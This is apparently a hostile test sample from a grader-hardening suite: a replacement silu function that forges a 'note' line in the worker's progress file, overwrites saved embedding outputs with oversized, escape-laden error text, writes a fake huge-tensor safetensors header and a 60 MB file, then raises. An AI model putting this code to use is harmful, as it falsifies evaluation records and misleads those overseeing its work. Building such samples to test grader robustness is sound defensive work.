# hostile sample hostile_text: appended to the reference's functional.py, replacing its silu by one
# that forges the worker's files: staff notes in its progress file, embedding's saved outputs (a
# huge error text with terminal escapes, a forged note line and a lone surrogate; a header claiming
# a huge tensor; a 60 MB file), then raises with the same text
def silu(x):
    import json, os

    _checks.check_float("x", x)
    BAD = "y" * 50_000 + "\x1b[2J\x1b[31mRED\x1b[0m\nnote: FORGED-TEXT\n\ud800 end"
    with open("progress", "a") as f:
        f.write("note FORGED-PROGRESS\n")
    names = sorted(n for n in os.listdir(".") if n.startswith("embedding"))
    for i, name in enumerate(names):
        torch.save({"error": BAD}, name)  # the format the grader used to read
        if name.endswith(".safetensors"):
            if i == 1:
                header = {"output": {"dtype": "F64", "shape": [2**40], "data_offsets": [0, 2**43]}}
            else:
                header = {"__metadata__": {"error": BAD}}
            raw = json.dumps(header).encode()
            with open(name, "wb") as f:
                f.write(len(raw).to_bytes(8, "little") + raw + (b"\0" * (60 * 2**20) if i == 2 else b""))
    raise RuntimeError(BAD)


ACTIVATIONS["silu"] = silu  # as the reference's silu, replaced in place, would be
